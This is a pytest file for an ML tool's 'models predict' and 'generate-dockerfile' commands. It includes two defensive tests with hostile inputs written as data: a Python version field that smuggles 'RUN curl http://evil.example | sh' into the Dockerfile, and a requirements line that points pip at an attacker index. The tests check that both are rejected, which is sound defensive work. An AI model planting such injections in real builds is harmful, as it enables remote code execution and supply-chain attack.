"""`tracekit models predict` (through click's CliRunner) and `tracekit.models.predict`: a file scored with a
logged scikit-learn model, by id and by registry alias; bad input and unsupported env managers refused (the
virtualenv one is tested in test_virtualenv_env.py)."""

from __future__ import annotations

import json

import pytest
from click.testing import CliRunner

import tracekit
from tracekit.cli import main
from tracekit.exceptions import TracekitException


@pytest.fixture
def logged(iris, iris_classifier):
    features, _ = iris
    info = tracekit.sklearn.log_model(iris_classifier, name="iris_lr", input_example=features.head(3),
                                      registered_model_name="iris")
    tracekit.MlflowClient().set_registered_model_alias("iris", "champion", 1)
    return info, features.head(5), iris_classifier.predict(features.head(5)).tolist()


def test_predict_a_json_file_to_an_output_file(tmp_path, logged):
    info, rows, expected = logged
    (tmp_path / "in.json").write_text(json.dumps({"dataframe_split": json.loads(rows.to_json(orient="split",
                                                                                              index=False))}))
    result = CliRunner().invoke(main, ["models", "predict", "-m", info.model_uri, "-i", str(tmp_path / "in.json"),
                                       "-t", "json", "-o", str(tmp_path / "out.json")])
    assert result.exit_code == 0, result.output
    assert json.loads((tmp_path / "out.json").read_text()) == {"predictions": expected}


def test_predict_a_csv_file_by_registry_alias_to_stdout(tmp_path, logged):
    _, rows, expected = logged
    rows.to_csv(tmp_path / "in.csv", index=False)
    result = CliRunner().invoke(main, ["models", "predict", "-m", "models:/iris@champion",
                                       "-i", str(tmp_path / "in.csv"), "-t", "csv"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == {"predictions": expected}


def test_predict_refuses_input_violating_the_signature_naming_the_column(tmp_path, logged):
    info, rows, _ = logged
    rows.drop(columns=["petal width (cm)"]).to_csv(tmp_path / "in.csv", index=False)
    result = CliRunner().invoke(main, ["models", "predict", "-m", info.model_uri, "-i", str(tmp_path / "in.csv"),
                                       "-t", "csv"])
    assert result.exit_code == 1 and "petal width (cm)" in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("command", ["predict", "serve"])
def test_an_env_manager_other_than_local_or_virtualenv_is_refused(tmp_path, logged, command):
    info, rows, _ = logged
    (tmp_path / "in.csv").write_text(rows.to_csv(index=False))
    extra = ["-i", str(tmp_path / "in.csv"), "-t", "csv"] if command == "predict" else []
    result = CliRunner().invoke(main, ["models", command, "-m", info.model_uri, "--env-manager", "conda", *extra])
    assert result.exit_code == 2 and "'conda' is not one of 'local', 'virtualenv'" in result.output
    with pytest.raises(TracekitException, match="'conda' is not supported: use 'local'"):
        tracekit.models.predict(info.model_uri, input_path=str(tmp_path / "in.csv"), content_type="csv",
                                env_manager="conda")


def test_models_predict_function_takes_a_body_dict_and_returns_the_answer(tmp_path, logged):
    info, rows, expected = logged
    body = {"dataframe_records": json.loads(rows.to_json(orient="records"))}
    answer = tracekit.models.predict(info.model_uri, body, output_path=str(tmp_path / "out.json"))
    assert answer == {"predictions": expected}
    assert json.loads((tmp_path / "out.json").read_text()) == answer


def test_models_predict_function_refuses_an_unknown_content_type(logged):
    info, rows, _ = logged
    with pytest.raises(TracekitException, match="Unsupported content type 'xml'"):
        tracekit.models.predict(info.model_uri, rows.to_csv(index=False), content_type="xml")


def test_generate_dockerfile_copies_the_model_and_serves_it(tmp_path, logged):
    import platform

    info, _, _ = logged
    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", "models:/iris@champion",
                                       "-d", str(tmp_path / "build")])
    assert result.exit_code == 0, result.output
    dockerfile = (tmp_path / "build" / "Dockerfile").read_text()
    python = ".".join(platform.python_version().split(".")[:2])
    assert f"FROM python:{python}-slim\n" in dockerfile
    assert "COPY model_dir /opt/ml/model\n" in dockerfile
    assert "pip install --no-cache-dir -r /opt/ml/model/requirements.txt" in dockerfile
    assert f'"tracekit[server]=={tracekit.__version__}"' in dockerfile
    assert ('CMD ["tracekit", "models", "serve", "-m", "/opt/ml/model", "--host", "0.0.0.0", "--port", "8080"]'
            in dockerfile)
    assert (tmp_path / "build" / "model_dir" / "MLmodel").is_file()
    assert "scikit-learn" in (tmp_path / "build" / "model_dir" / "requirements.txt").read_text()


def test_generate_dockerfile_takes_only_a_version_from_python_env(tmp_path, logged):
    info, _, _ = logged
    model_dir = tmp_path / "model"
    tracekit.sklearn.save_model(tracekit.sklearn.load_model(info.model_uri), str(model_dir))
    (model_dir / "python_env.yaml").write_text('python: "3.10\\nRUN curl http://evil.example | sh"\n')
    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", str(model_dir),
                                       "-d", str(tmp_path / "build")])
    assert result.exit_code == 0, result.output
    dockerfile = (tmp_path / "build" / "Dockerfile").read_text()
    assert "evil" not in dockerfile and "curl" not in dockerfile


def test_generate_dockerfile_refuses_a_model_whose_requirements_choose_an_index(tmp_path, logged):
    info, _, _ = logged
    model_dir = tmp_path / "model"
    tracekit.sklearn.save_model(tracekit.sklearn.load_model(info.model_uri), str(model_dir))
    with open(model_dir / "requirements.txt", "a") as requirements:
        requirements.write("--extra-index-url http://evil.example/simple\n")
    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", str(model_dir),
                                       "-d", str(tmp_path / "build")])
    assert result.exit_code == 1 and "is a pip option" in result.output
    assert not (tmp_path / "build" / "Dockerfile").exists()


def test_generate_dockerfile_refuses_a_directory_already_holding_a_model(tmp_path, logged):
    info, _, _ = logged
    (tmp_path / "build" / "model_dir").mkdir(parents=True)
    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", info.model_uri,
                                       "-d", str(tmp_path / "build")])
    assert result.exit_code == 1 and "already exists" in result.output
